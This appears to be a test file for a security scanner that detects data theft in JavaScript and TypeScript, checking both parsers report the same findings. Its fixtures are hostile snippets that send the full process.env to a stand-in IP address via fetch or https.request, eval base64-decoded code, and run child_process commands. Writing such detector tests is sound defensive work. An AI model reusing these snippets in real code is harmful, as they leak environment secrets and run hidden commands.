import { expect, test } from 'vitest';
import { prepare, scanFile } from '../scan-file.ts';

/** What the parser of plain files and that of typed ones name differently. */
const TEXTS: { readonly [name: string]: string } = {
  'a private method': `class A { #send(x) { fetch('http://203.0.113.7/', { body: x }); }
    go() { this.#send(JSON.stringify(process.env)); } }`,
  'a private field': `class A { #all = process.env;
    go() { fetch('http://203.0.113.7/', { body: JSON.stringify(this.#all) }); } }`,
  'a method of a class': `class A { send(x) { fetch('http://203.0.113.7/', { body: x }); }
    go() { this.send(JSON.stringify(process.env)); } }`,
  'a static method': `class A { static go() { eval(atob('Y29uc29sZS5sb2coMSk=')); } }`,
  'a method of an object': `const a = { send(x) { fetch('http://203.0.113.7/', { body: x }); } };
    a.send(JSON.stringify(process.env));`,
  'a getter': `const a = { get all() { return process.env; } };
    fetch('http://203.0.113.7/', { body: JSON.stringify(a.all) });`,
  'an optional call': `const f = globalThis?.fetch;
    f?.('http://203.0.113.7/', { body: JSON.stringify(process?.env) });`,
  'an optional member': `import cp from 'child_process';
    cp?.exec?.(Buffer?.from?.('Y3VybCAtcyBodHRwOi8veA==', 'base64')?.toString());`,
  'a dynamic import': `const all = process.env;
    import('node:https').then((it) => it.request('http://203.0.113.7/?' + JSON.stringify(all)));
    import('data:text/javascript;base64,Y29uc29sZS5sb2coMSk7Y29uc29sZS5sb2coMik=');
    eval(atob('Y29uc29sZS5sb2coMSk='));`,
  'keys of every kind': `const a = { 'x y': process.env, 1: process.env, [\`z\`]: process.env };
    fetch('http://203.0.113.7/', { body: JSON.stringify(a['x y']) });
    fetch('http://203.0.113.8/', { body: JSON.stringify(a[1]) });
    fetch('http://203.0.113.9/', { body: JSON.stringify(a.z) });`,
  'numbers and texts': `eval(String.fromCharCode(99, 111, 110, 115, 111, 108, 101, 46, 108, 111, 103));
    require('child_' + 'process').execSync('id');`,
  'a pattern with keys': `const { env: { 'ALL': one, ...rest } } = process;
    fetch('http://203.0.113.7/', { body: JSON.stringify({ one, rest, ...process.env }) });`,
};

test.each(Object.entries(TEXTS))('%s is understood with types and without', async (_, text) => {
  await prepare(new Set(['javascript', 'shell']));
  const [plain, typed] = ['a.mjs', 'a.ts'].map((path) => {
    const bytes = new TextEncoder().encode(text);
    const { findings } = scanFile(
      { path, language: 'javascript', text, bytes },
      { indicators: false },
    );
    return JSON.parse(JSON.stringify(findings).replaceAll(`"${path}"`, '"a"'));
  });
  expect(plain).not.toEqual([]);
  expect(typed).toEqual(plain);
});

test.each([
  ['an initialiser of an enum', `enum A { B = send(JSON.stringify(process.env)) }`],
  [
    'a module that is imported by its name',
    `import it = require('node:https');
    const ask = it.request; ask('http://203.0.113.7/').end(JSON.stringify(process.env));`,
  ],
  [
    'a part of a module',
    `import * as it from 'node:https'; import ask = it.request;
    ask('http://203.0.113.7/').end(JSON.stringify(process.env));`,
  ],
  ['what a namespace runs', `namespace N { send(JSON.stringify(process.env)); }`],
])('%s is followed', async (_, written) => {
  await prepare(new Set(['javascript']));
  const text = `${written}\nfunction send(x: string) { fetch('http://203.0.113.7/', { body: x }); return 1; }\n`;
  const bytes = new TextEncoder().encode(text);
  const { findings } = scanFile(
    { path: 'a.ts', language: 'javascript', text, bytes },
    { indicators: false },
  );
  expect(findings.map(({ rule }) => rule)).toEqual(['exfiltration']);
});

test('a name of many parts keeps nothing of its file from being followed', async () => {
  await prepare(new Set(['javascript']));
  const text = `fetch('http://203.0.113.7/', { body: JSON.stringify(process.env) });\nimport it = a${'.b'.repeat(20_000)};\n`;
  const { findings } = scanFile(
    { path: 'a.ts', language: 'javascript', text, bytes: new TextEncoder().encode(text) },
    { indicators: false },
  );
  expect(findings.map(({ rule }) => rule)).toContain('exfiltration');
});
